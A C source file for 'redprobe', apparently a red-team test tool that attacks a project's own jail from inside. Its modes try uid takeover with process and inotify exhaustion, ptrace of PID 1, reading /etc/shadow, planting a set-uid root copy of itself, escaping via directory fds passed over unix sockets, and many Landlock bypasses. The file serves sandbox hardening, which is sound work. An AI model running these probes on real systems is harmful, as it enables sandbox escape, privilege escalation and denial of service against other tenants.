/* redprobe - red-team attacks of issue 11 (second round) run as a hostile
 * service, the ones probe.c lacks. Static: needs nothing in a jail.
 *
 *   redprobe nproc UID GID N SECS  a root service takes another customer's
 *                                  uid and holds up to N processes of it
 *   redprobe reaper                signal 0, ptrace, prlimit of PID 1
 *   redprobe read PATH             open PATH, print its first bytes
 *   redprobe whoami                ids, and whether /etc/shadow opens
 *   redprobe plant PATH            copy itself to PATH, set-uid root
 *   redprobe mkdirs PATH           mkdir -p PATH (0755)
 *   redprobe fdread REL            every inherited fd from 3 on that is a
 *                                  directory: openat(fd, REL) and print it
 *   redprobe inotify SECS [UID]    [take UID, then] create inotify instances
 *                                  until refused, hold them SECS seconds
 *   redprobe watch PATH SECS       inotify on PATH for SECS seconds: print
 *                                  each open seen (another tenant's use of a
 *                                  shared file)
 *   redprobe lease PATH SECS       a write lease on PATH (owner or
 *                                  CAP_LEASE): print when another opener
 *                                  breaks it, hold it SECS seconds
 *   redprobe fdsend SOCK SECS      a unix socket at SOCK: to the first
 *                                  peer, its root directory ("/", O_PATH)
 *                                  by SCM_RIGHTS; held until the peer is
 *                                  done or SECS seconds
 *   redprobe fdclimb SOCK REL      connect to SOCK (up to 5 s), receive a
 *                                  directory: openat(it, REL) and print
 *                                  its first bytes (".." climbs from
 *                                  another process's root)
 *   redprobe lljail SOCK HOSTDIR      (a root service) receive a directory
 *                                  (SOCK: connect to a path, or "@NAME":
 *                                  listen on that abstract name) and try
 *                                  every way around Landlock below it:
 *                                  REL names HOSTDIR/{secret,ren,del,chmod,
 *                                  chown,acl,priv/sock,bin} relative to it
 *   redprobe llsend @NAME SECS     connect to abstract NAME (up to SECS s)
 *                                  and pass "/" (O_PATH) by SCM_RIGHTS
 *   redprobe peerlisten SOCK SECS  listen on SOCK (0600), print the uid of
 *                                  the first peer (a host root-only socket)
 */
#include <sys/syscall.h>
#include <sys/xattr.h>
#include <sys/wait.h>
#include <errno.h>
#include <stddef.h>
#include <stdint.h>
#include <fcntl.h>
#include <grp.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/inotify.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <poll.h>
#include <time.h>
#include <unistd.h>

static const char *er(long rc)
{
    return rc < 0 ? strerror(errno) : "ok";
}

static void nproc(uid_t u, gid_t g, int n, int secs)
{
    int k = 0, err = 0;
    printf("setgroups=%s\n", er(setgroups(0, NULL)));
    printf("setresgid=%s\n", er(setresgid(g, g, g)));
    printf("setresuid=%s\n", er(setresuid(u, u, u)));
    for (; k < n; k++) {
        pid_t p = fork();
        if (p == 0) {
            sleep((unsigned)secs);
            _exit(0);
        }
        if (p < 0) {
            err = errno;
            break;
        }
    }
    printf("forked=%d as_uid=%d stopped_by=%s\n", k, (int)u, err ? strerror(err) : "count");
    fflush(stdout);
    sleep((unsigned)secs);
}

static void reaper(void)
{
    struct rlimit rl, low = {1, 1};
    printf("kill1_0=%s\n", er(kill(1, 0)));
    printf("ptrace1=%s\n", er(ptrace(PTRACE_ATTACH, 1, NULL, NULL)));
    printf("prlimit1_get=%s\n", er(prlimit(1, RLIMIT_NOFILE, NULL, &rl)));
    printf("prlimit1_set_cpu=%s\n", er(prlimit(1, RLIMIT_CPU, &low, NULL)));
}

static void inotify(int secs, const char *uid)
{
    if (uid) {
        uid_t u = (uid_t)atoi(uid);
        printf("setresuid=%s\n", er(setgroups(0, NULL) < 0 || setresgid(u, u, u) < 0 ? -1 : setresuid(u, u, u)));
    }
    int k = 0;
    while (k < 100000 && inotify_init1(IN_CLOEXEC) >= 0)
        k++;
    printf("inotify_instances=%d stopped_by=%s\n", k, strerror(errno));
    fflush(stdout);
    sleep((unsigned)secs);
}

static void watch(const char *path, int secs)
{
    int fd = inotify_init1(IN_CLOEXEC);
    int wd = fd < 0 ? -1 : inotify_add_watch(fd, path, IN_OPEN | IN_ACCESS);
    printf("watch=%s\n", er(wd));
    fflush(stdout);
    if (wd < 0)
        return;
    time_t end = time(NULL) + secs;
    int opens = 0;
    while (time(NULL) < end) {
        struct pollfd p = {fd, POLLIN, 0};
        if (poll(&p, 1, 200) <= 0)
            continue;
        char b[4096] __attribute__((aligned(__alignof__(struct inotify_event))));
        ssize_t n = read(fd, b, sizeof b);
        for (ssize_t i = 0; i < n;) {
            const struct inotify_event *ev = (const struct inotify_event *)(b + i);
            if (ev->mask & IN_OPEN)
                printf("seen_open=%d\n", ++opens);
            i += (ssize_t)sizeof *ev + ev->len;
        }
    }
    printf("opens_seen=%d\n", opens);
}

static volatile sig_atomic_t lease_broken;
static void on_lease(int sig)
{
    (void)sig;
    lease_broken = 1;
}

static void lease(const char *path, int secs)
{
    signal(SIGIO, on_lease);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    int rc = fd < 0 ? -1 : fcntl(fd, F_SETLEASE, F_WRLCK);
    printf("lease=%s\n", er(rc));
    fflush(stdout);
    if (rc < 0)
        return;
    time_t end = time(NULL) + secs;
    while (time(NULL) < end && !lease_broken)
        usleep(50000);
    printf("lease_broken=%d\n", (int)lease_broken);
    fflush(stdout);
    /* hold the open up to the end: the other opener waits */
    while (time(NULL) < end)
        usleep(50000);
}

static void mkdirs(char *path)
{
    for (char *p = path + 1;; p++) {
        if (*p == '/' || *p == '\0') {
            char c = *p;
            *p = '\0';
            if (mkdir(path, 0755) < 0 && errno != EEXIST) {
                printf("mkdir %s=%s\n", path, strerror(errno));
                return;
            }
            *p = c;
            if (c == '\0')
                break;
        }
    }
    printf("mkdirs=ok\n");
}

/* REL below the directory fd: "PREFIX_read=ok data=..." (newlines made
 * spaces) or "PREFIX_read=<error>" */
static void read_below(int fd, const char *rel, const char *prefix)
{
    int f = openat(fd, rel, O_RDONLY);
    char b[200] = "";
    ssize_t n = f < 0 ? -1 : read(f, b, sizeof b - 1);
    for (ssize_t i = 0; i < n; i++)
        if (b[i] == '\n')
            b[i] = ' ';
    printf("%s_read=%s data=%s\n", prefix, f < 0 ? strerror(errno) : "ok", n > 0 ? b : "");
    if (f >= 0)
        close(f);
}

static void fdread(const char *rel)
{
    for (int fd = 3; fd < 64; fd++) {
        struct stat st;
        if (fstat(fd, &st) < 0)
            continue;
        printf("fd%d=%s\n", fd, S_ISDIR(st.st_mode) ? "dir" : "other");
        if (!S_ISDIR(st.st_mode))
            continue;
        char prefix[16];
        snprintf(prefix, sizeof prefix, "fd%d", fd);
        read_below(fd, rel, prefix);
    }
    printf("fdread=done\n");
}

static void readpath(const char *path)
{
    char b[200] = "";
    int fd = open(path, O_RDONLY);
    printf("read=%s", fd < 0 ? strerror(errno) : "ok");
    ssize_t n = fd < 0 ? -1 : read(fd, b, sizeof b - 1);
    for (ssize_t i = 0; i < n; i++)
        if (b[i] == '\0' || b[i] == '\n')
            b[i] = ' ';
    printf(" data=%s\n", n > 0 ? b : "");
}

static void plant(const char *path)
{
    int in = open("/proc/self/exe", O_RDONLY);
    if (in < 0)
        in = open("/bin/redprobe", O_RDONLY);
    int out = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0755);
    if (in < 0 || out < 0) {
        printf("plant=%s\n", strerror(errno));
        return;
    }
    char b[65536];
    ssize_t n;
    while ((n = read(in, b, sizeof b)) > 0)
        if (write(out, b, (size_t)n) != n)
            break;
    printf("chown=%s\n", er(fchown(out, 0, 0)));
    printf("chmod=%s\n", er(fchmod(out, 04755)));
    close(out);
}

static int unix_addr(const char *path, struct sockaddr_un *a)
{
    memset(a, 0, sizeof *a);
    a->sun_family = AF_UNIX;
    if (strlen(path) >= sizeof a->sun_path)
        return -1;
    strcpy(a->sun_path, path);
    return 0;
}

static int send_fd(int c, int fd)
{
    char byte = 'd', ctl[CMSG_SPACE(sizeof(int))];
    struct iovec v = {&byte, 1};
    struct msghdr m = {.msg_iov = &v, .msg_iovlen = 1, .msg_control = ctl, .msg_controllen = sizeof ctl};
    memset(ctl, 0, sizeof ctl);
    struct cmsghdr *h = CMSG_FIRSTHDR(&m);
    h->cmsg_level = SOL_SOCKET;
    h->cmsg_type = SCM_RIGHTS;
    h->cmsg_len = CMSG_LEN(sizeof(int));
    memcpy(CMSG_DATA(h), &fd, sizeof fd);
    return sendmsg(c, &m, 0) < 0 ? -1 : 0;
}

static int recv_fd(int s)
{
    char byte, ctl[CMSG_SPACE(sizeof(int))];
    struct iovec v = {&byte, 1};
    struct msghdr m = {.msg_iov = &v, .msg_iovlen = 1, .msg_control = ctl, .msg_controllen = sizeof ctl};
    struct cmsghdr *h;
    int fd = -1;
    if (recvmsg(s, &m, 0) < 1 || !(h = CMSG_FIRSTHDR(&m)) || h->cmsg_type != SCM_RIGHTS)
        return -1;
    memcpy(&fd, CMSG_DATA(h), sizeof fd);
    return fd;
}

/* On the listening socket s: say so, wait up to secs for one peer, send
 * it root (an O_PATH "/"), and keep the connection until the peer is
 * done (the sender's namespace lives until then). */
static void serve_root(int s, int root, int secs)
{
    printf("fdsend=listening\n");
    fflush(stdout);
    alarm((unsigned)secs);
    int c = accept(s, NULL, NULL);
    if (c < 0) {
        printf("fdsend=%s\n", strerror(errno));
        return;
    }
    printf("fdsend=%s\n", send_fd(c, root) < 0 ? strerror(errno) : "sent");
    char byte;
    while (read(c, &byte, 1) > 0)
        ;
}

static void fdsend(const char *sock, int secs)
{
    struct sockaddr_un a;
    int root = open("/", O_PATH | O_DIRECTORY);
    int s = socket(AF_UNIX, SOCK_STREAM, 0);
    unlink(sock);
    if (root < 0 || s < 0 || unix_addr(sock, &a) < 0 || bind(s, (struct sockaddr *)&a, sizeof a) < 0 ||
        chmod(sock, 0777) < 0 || listen(s, 1) < 0) {
        printf("fdsend=%s\n", strerror(errno));
        return;
    }
    serve_root(s, root, secs);
}

/* fdsendabs NAME SECS: as fdsend, on the abstract name @NAME (the host's
 * network namespace: any host process may connect in, no reachable jail
 * needed); address padded to the whole sun_path. */
static void fdsendabs(const char *name, int secs)
{
    struct sockaddr_un a;
    int root = open("/", O_PATH | O_DIRECTORY);
    int s = socket(AF_UNIX, SOCK_STREAM, 0);
    memset(&a, 0, sizeof a);
    a.sun_family = AF_UNIX;
    strncpy(a.sun_path + 1, name, sizeof a.sun_path - 2);
    if (root < 0 || s < 0 || bind(s, (struct sockaddr *)&a, sizeof a) < 0 || listen(s, 1) < 0) {
        printf("fdsend=%s\n", strerror(errno));
        return;
    }
    serve_root(s, root, secs);
}

static void fdclimb(const char *sock, const char *rel)
{
    struct sockaddr_un a;
    int s = socket(AF_UNIX, SOCK_STREAM, 0), k;
    if (s < 0 || unix_addr(sock, &a) < 0) {
        printf("fdclimb=%s\n", strerror(errno));
        return;
    }
    for (k = 0; k < 100 && connect(s, (struct sockaddr *)&a, sizeof a) < 0; k++)
        usleep(50000);
    if (k == 100) {
        printf("fdclimb_connect=%s\n", strerror(errno));
        return;
    }
    int fd = recv_fd(s);
    if (fd < 0) {
        printf("fdclimb_got=%s\n", "none");
        return;
    }
    printf("fdclimb_got=ok\n");
    read_below(fd, rel, "fdclimb");
}

/* path or "@NAME" (abstract) */
static socklen_t any_addr(const char *name, struct sockaddr_un *a)
{
    memset(a, 0, sizeof *a);
    a->sun_family = AF_UNIX;
    size_t n = strlen(name);
    if (n >= sizeof a->sun_path)
        return 0;
    memcpy(a->sun_path, name, n);
    if (name[0] == '@')
        a->sun_path[0] = '\0';
    return (socklen_t)(offsetof(struct sockaddr_un, sun_path) + n + (name[0] != '@'));
}

static void llsend(const char *name, int secs)
{
    struct sockaddr_un a;
    socklen_t l = any_addr(name, &a);
    int root = open("/", O_PATH | O_DIRECTORY), s = socket(AF_UNIX, SOCK_STREAM, 0), k;
    for (k = 0; k < secs * 20 && connect(s, (struct sockaddr *)&a, l) < 0; k++)
        usleep(50000);
    if (root < 0 || k == secs * 20 || send_fd(s, root) < 0) {
        printf("llsend=%s\n", strerror(errno));
        return;
    }
    printf("llsend=sent\n");
    char byte;
    while (read(s, &byte, 1) > 0)
        ;
}

static void peerlisten(const char *path, int secs)
{
    struct sockaddr_un a;
    socklen_t l = any_addr(path, &a);
    int s = socket(AF_UNIX, SOCK_STREAM, 0);
    unlink(path);
    if (s < 0 || bind(s, (struct sockaddr *)&a, l) < 0 || chmod(path, 0600) < 0 || listen(s, 1) < 0) {
        printf("peerlisten=%s\n", strerror(errno));
        return;
    }
    printf("peerlisten=listening\n");
    alarm((unsigned)secs);
    int c = accept(s, NULL, NULL);
    struct ucred cr;
    socklen_t cl = sizeof cr;
    if (c < 0 || getsockopt(c, SOL_SOCKET, SO_PEERCRED, &cr, &cl) < 0) {
        printf("peerlisten=%s\n", strerror(errno));
        return;
    }
    printf("peerlisten=peer uid=%d\n", (int)cr.uid);
}

/* every way around the Landlock rule below a received host directory */
static void lljail(const char *sock, const char *hd)
{
    struct sockaddr_un a;
    socklen_t l = any_addr(sock, &a);
    int s = socket(AF_UNIX, SOCK_STREAM, 0), fd = -1, k;
    char p[512], q[512];
    if (sock[0] == '@') {
        if (s < 0 || bind(s, (struct sockaddr *)&a, l) < 0 || listen(s, 1) < 0) {
            printf("lljail_listen=%s\n", strerror(errno));
            return;
        }
        printf("lljail=listening\n");
        alarm(10);
        int c = accept(s, NULL, NULL);
        fd = c < 0 ? -1 : recv_fd(c);
    } else {
        for (k = 0; k < 100 && connect(s, (struct sockaddr *)&a, l) < 0; k++)
            usleep(50000);
        fd = recv_fd(s);
    }
    if (fd < 0) {
        printf("lljail_got=none\n");
        return;
    }
    printf("lljail_got=ok\n");
#define REL(name) (snprintf(p, sizeof p, "%s/%s", hd, name), p)
    read_below(fd, REL("secret"), "ll_open");
    /* O_PATH is not checked by Landlock: what gives content after it? */
    int op = openat(fd, REL("secret"), O_PATH);
    printf("ll_opath=%s\n", er(op));
    snprintf(q, sizeof q, "/proc/self/fd/%d", op);
    int r = open(q, O_RDONLY);
    printf("ll_proc_reopen=%s\n", er(r));
    printf("ll_linkat_empty=%s\n", er(linkat(op, "", AT_FDCWD, "/tmp/ll-link", AT_EMPTY_PATH)));
    printf("ll_linkat=%s\n", er(linkat(fd, REL("secret"), AT_FDCWD, "/tmp/ll-link2", 0)));
    int t = open("/tmp/ll-x", O_RDWR | O_CREAT, 0600);
    printf("ll_jailfile=%s\n", er(t));
    printf("ll_rename_exchange=%s\n",
           er(syscall(SYS_renameat2, fd, REL("secret"), AT_FDCWD, "/tmp/ll-x", 1 /* RENAME_EXCHANGE */)));
    printf("ll_rename_in_host=%s\n", er(renameat(fd, REL("ren"), fd, REL("ren2"))));
    printf("ll_symlink_proc=%s\n", er(symlink(q, "/tmp/ll-sym")));
    r = open("/tmp/ll-sym", O_RDONLY);
    printf("ll_symlink_open=%s\n", er(r));
    printf("ll_truncate_at=%s\n", er(syscall(SYS_openat, fd, REL("secret"), O_WRONLY | O_TRUNC)));
    printf("ll_mkfifo=%s\n", er(mkfifoat(fd, REL("ll-fifo"), 0666)));
    printf("ll_mkdir=%s\n", er(mkdirat(fd, REL("ll-dir"), 0777)));
    printf("ll_unlink=%s\n", er(unlinkat(fd, REL("del"), 0)));
    printf("ll_symlinkat=%s\n", er(symlinkat("/", fd, REL("ll-symlink"))));
    struct {
        struct file_handle h;
        unsigned char b[128];
    } fh;
    int mid;
    fh.h.handle_bytes = 128;
    printf("ll_name_to_handle=%s\n", er(name_to_handle_at(fd, REL("secret"), &fh.h, &mid, 0)));
    printf("ll_open_by_handle=%s\n", er(open_by_handle_at(fd, &fh.h, O_RDONLY)));
    printf("ll_open_tree=%s\n", er(syscall(428 /* open_tree */, fd, "", 1 /* OPEN_TREE_CLONE */ | 0x1000)));
    printf("ll_io_uring=%s\n", er(syscall(425 /* io_uring_setup */, 4, q)));
    pid_t c = fork();
    if (c == 0) {
        int b = openat(fd, REL("bin"), O_PATH);
        char *av[] = {"x", NULL};
        syscall(SYS_execveat, b, "", av, av + 1, AT_EMPTY_PATH);
        _exit(errno == EACCES ? 13 : 99);
    }
    int ws = 0;
    waitpid(c, &ws, 0);
    printf("ll_execveat=%s\n", WIFEXITED(ws) && WEXITSTATUS(ws) == 13 ? "Permission denied" : "ran");
    /* fchdir, then relative paths */
    printf("ll_fchdir=%s\n", er(fchdir(fd)));
    r = open(REL("secret"), O_RDONLY);
    printf("ll_relopen=%s\n", er(r));
    printf("ll_truncate=%s\n", er(truncate(REL("secret"), 0)));
    /* pathname unix sockets: Landlock (ABI < 9) does not govern connect */
    struct sockaddr_un u;
    socklen_t ul = any_addr(REL("priv/sock"), &u);
    int us = socket(AF_UNIX, SOCK_STREAM, 0);
    printf("ll_unix_connect=%s\n", er(connect(us, (struct sockaddr *)&u, ul)));
    ul = any_addr(REL("ll-bound"), &u);
    us = socket(AF_UNIX, SOCK_STREAM, 0);
    printf("ll_unix_bind=%s\n", er(bind(us, (struct sockaddr *)&u, ul)));
    /* the documented residual: attributes */
    printf("ll_fchmodat=%s\n", er(fchmodat(fd, REL("chmod"), 04777, 0)));
    printf("ll_fchownat=%s\n", er(fchownat(fd, REL("chown"), 41941, 41941, 0)));
    /* an ACL entry: user 41941 rw- (the access ACL's xattr format) */
    struct {
        uint32_t v;
        struct {
            uint16_t tag, perm;
            uint32_t id;
        } __attribute__((packed)) e[5];
    } __attribute__((packed)) acl = {2, {{1, 6, ~0u}, {2, 6, 41941}, {4, 0, ~0u}, {0x10, 6, ~0u}, {0x20, 0, ~0u}}};
    printf("ll_setxattr_acl=%s\n", er(setxattr(REL("acl"), "system.posix_acl_access", &acl, sizeof acl, 0)));
#undef REL
    printf("lljail=done\n");
}

int main(int argc, char **argv)
{
    const char *w = argc > 1 ? argv[1] : "";
    setvbuf(stdout, NULL, _IOLBF, 0);
    printf("redprobe=%s pid=%d uid=%d euid=%d\n", w, (int)getpid(), (int)getuid(), (int)geteuid());
    if (strcmp(w, "nproc") == 0 && argc > 5)
        nproc((uid_t)atoi(argv[2]), (gid_t)atoi(argv[3]), atoi(argv[4]), atoi(argv[5]));
    else if (strcmp(w, "reaper") == 0)
        reaper();
    else if (strcmp(w, "read") == 0 && argc > 2)
        readpath(argv[2]);
    else if (strcmp(w, "whoami") == 0)
        printf("shadow=%s\n", open("/etc/shadow", O_RDONLY) < 0 ? strerror(errno) : "READ");
    else if (strcmp(w, "mkdirs") == 0 && argc > 2)
        mkdirs(argv[2]);
    else if (strcmp(w, "fdread") == 0 && argc > 2)
        fdread(argv[2]);
    else if (strcmp(w, "inotify") == 0 && argc > 2)
        inotify(atoi(argv[2]), argc > 3 ? argv[3] : NULL);
    else if (strcmp(w, "plant") == 0 && argc > 2)
        plant(argv[2]);
    else if (strcmp(w, "watch") == 0 && argc > 3)
        watch(argv[2], atoi(argv[3]));
    else if (strcmp(w, "lease") == 0 && argc > 3)
        lease(argv[2], atoi(argv[3]));
    else if (strcmp(w, "fdsend") == 0 && argc > 3)
        fdsend(argv[2], atoi(argv[3]));
    else if (strcmp(w, "fdclimb") == 0 && argc > 3)
        fdclimb(argv[2], argv[3]);
    else if (strcmp(w, "lljail") == 0 && argc > 3)
        lljail(argv[2], argv[3]);
    else if (strcmp(w, "llsend") == 0 && argc > 3)
        llsend(argv[2], atoi(argv[3]));
    else if (strcmp(w, "fdsendabs") == 0 && argc > 3)
        fdsendabs(argv[2], atoi(argv[3]));
    else if (strcmp(w, "peerlisten") == 0 && argc > 3)
        peerlisten(argv[2], atoi(argv[3]));
    else {
        printf("usage=redprobe nproc UID GID N SECS|reaper|read PATH|whoami|plant PATH|mkdirs PATH|fdread REL|inotify "
               "SECS [UID]|watch PATH SECS|lease PATH SECS|fdsend SOCK SECS|fdclimb SOCK REL|lljail SOCK "
               "HOSTDIR|llsend @NAME SECS|peerlisten SOCK SECS\n");
        return 2;
    }
    return 0;
}
